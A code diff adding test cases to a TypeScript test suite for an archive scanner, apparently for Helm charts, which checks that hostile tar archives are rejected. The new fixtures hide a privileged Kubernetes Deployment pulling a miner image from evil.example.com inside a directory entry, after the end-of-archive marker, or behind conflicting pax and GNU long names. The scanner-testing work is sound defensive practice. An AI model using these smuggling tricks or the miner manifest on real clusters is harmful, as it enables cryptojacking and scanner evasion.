@@ -3,10 +3,19 @@
 import { mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { gzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { ScanErrorCode } from '../../src/scan/errors.ts';
 import { scanInChild } from './support/scan-in-child.ts';
-import { buildTgz, chartEntries, gzipBomb, manyEntries, paxRecord } from './support/tar-builder.ts';
+import {
+  buildTar,
+  buildTgz,
+  chartEntries,
+  gzipBomb,
+  manyEntries,
+  paxRecord,
+  tarEntry,
+} from './support/tar-builder.ts';
 
 const MEMORY_BOUND = 300 * 1024 * 1024;
 
@@ -20,6 +29,17 @@ ${'bcdefghi'
   .map((c, i) => `  ${c}: &${c} [${Array(9).fill(`*${'abcdefghi'[i]}`).join(',')}]`)
   .join('\n')}
 `;
+
+const privileged = `apiVersion: apps/v1
+kind: Deployment
+metadata: {name: miner}
+spec:
+  template:
+    spec:
+      containers:
+        - {name: miner, image: evil.example.com/miner, securityContext: {privileged: true}}
+`;
+const hidden = tarEntry({ name: 'demo/templates/miner.yaml', data: privileged });
 
 describe('hostile archives in a separate process', () => {
   let dir: string;
@@ -78,6 +98,31 @@ describe('hostile archives in a separate process', () => {
       'a huge GNU sparse file (1 TiB)',
       () => buildTgz([...chartEntries(), { name: 'demo/sparse', type: 'S', declaredSize: 1024 ** 4 }]),
       'UnsupportedEntry',
+    ],
+    [
+      'a directory whose size hides a privileged Deployment (issue 13)',
+      () =>
+        buildTgz([
+          ...chartEntries(),
+          { name: 'demo/templates/', type: '5', declaredSize: hidden.length, rawData: hidden },
+        ]),
+      'AmbiguousArchive',
+    ],
+    [
+      'a privileged Deployment after the end-of-archive marker',
+      () => gzipSync(Buffer.concat([buildTar(chartEntries()), hidden, Buffer.alloc(1024)])),
+      'AmbiguousArchive',
+    ],
+    [
+      'a pax path and a GNU long name naming different files',
+      () =>
+        buildTgz([
+          ...chartEntries(),
+          { name: 'PaxHeader', type: 'x', data: paxRecord('path', 'demo/README.md') },
+          { name: '././@LongLink', type: 'L', data: 'demo/templates/miner.yaml\0' },
+          { name: 'demo/x', data: privileged },
+        ]),
+      'AmbiguousArchive',
     ],
     [
       'a YAML billion-laughs template',
